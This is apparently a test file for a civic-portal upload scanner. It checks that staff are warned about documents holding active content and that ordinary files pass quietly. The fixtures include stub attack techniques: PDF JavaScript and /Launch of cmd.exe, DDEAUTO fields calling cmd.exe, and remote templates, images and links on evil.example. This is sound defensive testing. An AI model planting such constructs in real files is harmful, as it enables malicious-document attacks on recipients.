import { randomUUID } from 'node:crypto'
import { deflateSync } from 'node:zlib'
import { describe, expect } from 'vitest'
import { lookIntoFiles } from '#platform/files/active-commands.ts'
import { locales } from '#platform/i18n/locale.ts'
import { translations } from '#platform/i18n/translations.ts'
import { pdf, send } from '../../support/files.ts'
import { testStore } from '../../support/portal.ts'
import { testOfDemo as test } from '../../support/test.ts'
import { idOf } from '../../support/rows.ts'
import { asice, docx, odt, xlsx } from './raw-zip.ts'

const initiative = 'initiatives/gaujienas-kopienas-virtuve'

const pdfWith = (object: Buffer | string) =>
  Buffer.concat([pdf.subarray(0, -6), Buffer.from('3 0 obj'), Buffer.from(object), Buffer.from('endobj\n%%EOF\n')])
const packed = (objects: string) => {
  const stream = deflateSync(objects)
  const head = `<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${stream.length}>>stream\n`
  return pdfWith(Buffer.concat([Buffer.from(head), stream, Buffer.from('\nendstream ')]))
}
const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
const related = (kind: string, target: string) =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`
const template = (target: string) =>
  docx({ name: 'word/_rels/settings.xml.rels', content: related('attachedTemplate', target) })
const code = (instruction: string) =>
  docx({ name: 'word/header1.xml', content: `<w:hdr><w:instrText>${instruction}</w:instrText></w:hdr>` })
const inOdt = (name: string, content: string) => odt({ name, content })

const active = {
  'a script in a PDF': ['a.pdf', pdfWith(script)],
  'a script whose name is spelled by numbers': ['a.pdf', pdfWith('<</S/J#61va#53cript/JS(1)>>')],
  'a script among packed objects': ['a.pdf', packed(`3 0 ${script}`)],
  'a PDF that starts a program': ['a.pdf', pdfWith('<</S/Launch/F(cmd.exe)>>')],
  'a file inside a PDF': ['a.pdf', pdfWith('<</Type/EmbeddedFile>>')],
  'a template from elsewhere': ['a.docx', template('https://evil.example/t.dotm')],
  'a template from a server of a network': ['a.docx', template('file://server/share/t.dotm')],
  'a picture from elsewhere': [
    'a.docx',
    docx({ name: 'word/_rels/document.xml.rels', content: related('image', 'http://evil.example/1.png') }),
  ],
  'a field that fetches': ['a.docx', code('DDEAUTO c:\\\\cmd.exe "/k"')],
  'a field in two pieces': ['a.docx', code('DDE</w:instrText><w:instrText>AUTO cmd')],
  'a program in a document': ['a.docx', docx({ name: 'word/embeddings/oleObject1.bin', content: 'x' })],
  'a control': ['a.docx', docx({ name: 'word/activeX/activeX1.xml', content: '<x/>' })],
  'a sheet of old macros': ['a.xlsx', xlsx({ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' })],
  'a table from elsewhere': [
    'a.xlsx',
    xlsx({
      name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
      content: related('externalLinkPath', 'https://evil.example/b.xlsx'),
    }),
  ],
  'a template of an open document': [
    'a.odt',
    inOdt('meta.xml', '<meta:template xlink:href="https://evil.example/t.ott"/>'),
  ],
  'an event of an open document': [
    'a.odt',
    inOdt('settings.xml', '<script:event-listener xlink:href="vnd.sun.star.script:x"/>'),
  ],
  'a PDF with a script in a signed container': ['a.asice', asice({ name: 'a.pdf', content: pdfWith(script) })],
} as const satisfies Record<string, readonly [name: string, content: Buffer]>

const quiet = {
  'a plain PDF': ['b.pdf', pdf],
  'a PDF that opens at its first page': ['b.pdf', pdfWith('<</OpenAction[2 0 R/Fit]/AA<<>>>>')],
  'packed objects': ['b.pdf', packed('3 0 <</Type/Font>>')],
  'a link to follow': [
    'b.docx',
    docx({ name: 'word/_rels/document.xml.rels', content: related('hyperlink', 'https://example.org/') }),
  ],
  'a template of the own computer': ['b.docx', template('file:///C:\\Templates\\letter.dotx')],
  'the number of a page': ['b.docx', code('PAGE')],
  'a link of an open document': ['b.odt', inOdt('styles.xml', '<text:a xlink:href="https://example.org/">x</text:a>')],
  'a signed PDF': ['b.asice', asice({ name: 'b.pdf', content: pdf })],
  'a text': ['b.txt', Buffer.from('/JavaScript')],
} as const satisfies Record<string, readonly [name: string, content: Buffer]>

describe('who is handed a file that does something by itself', () => {
  for (const [what, [name, content]] of Object.entries(active))
    test(`is told so of ${what}, in each language`, async ({ signedInAs }) => {
      const staff = await signedInAs('ape')
      await send(staff, `/en/${initiative}/files`, { files: [['documents', content, name]] }).expect(303)
      for (const locale of locales) {
        const { text } = await staff.get(`/${locale}/${initiative}`).expect(200)
        expect(text).toContain(translations[locale].t('files:active'))
      }
    })

  for (const [what, [name, content]] of Object.entries(quiet))
    test(`is told nothing of ${what}`, async ({ signedInAs }) => {
      const staff = await signedInAs('ape')
      await send(staff, `/en/${initiative}/files`, { files: [['documents', content, name]] }).expect(303)
      const { text } = await staff.get(`/en/${initiative}`).expect(200)
      expect(text).toContain(name)
      expect(text).not.toContain(translations.en.t('files:active'))
    })

  test('is told so of a file that was kept before anybody looked', async ({ db, signedInAs }) => {
    const staff = await signedInAs('ape')
    await send(staff, `/en/${initiative}/files`, { files: [['documents', pdfWith(script), 'a.pdf']] }).expect(303)
    const looked = await idOf(db('files').where({ name: 'a.pdf' }).orderBy('uploadedAt', 'desc'))
    const earlier = randomUUID()
    const columns = 'sha256, bytes, type, name, uploaded_at'
    await db.raw(`insert into files (id, ${columns}) select ?, ${columns} from files where id = ?`, [earlier, looked])
    await db('initiativeFiles').where({ fileId: looked }).update({ fileId: earlier })
    expect((await staff.get(`/en/${initiative}`)).text).not.toContain(translations.en.t('files:active'))
    await lookIntoFiles(db, await testStore())
    expect((await staff.get(`/en/${initiative}`)).text).toContain(translations.en.t('files:active'))
  })

  test('waits no longer for a file that was made to take long', { timeout: 20_000 }, async ({ signedInAs }) => {
    const staff = await signedInAs('ape')
    const long = [
      pdfWith('/ObjStm '.repeat(500_000)),
      docx({ name: 'word/_rels/document.xml.rels', content: '<Relationship '.repeat(600_000) }),
      docx({ name: 'word/settings.xml', content: '<w:instrText '.repeat(600_000) }),
    ]
    for (const content of long) {
      const began = process.cpuUsage()
      await send(staff, `/en/${initiative}/files`, { files: [['documents', content, 'long.pdf']] }).expect(303)
      expect(process.cpuUsage(began).user).toBeLessThan(3_000_000)
    }
  })
})
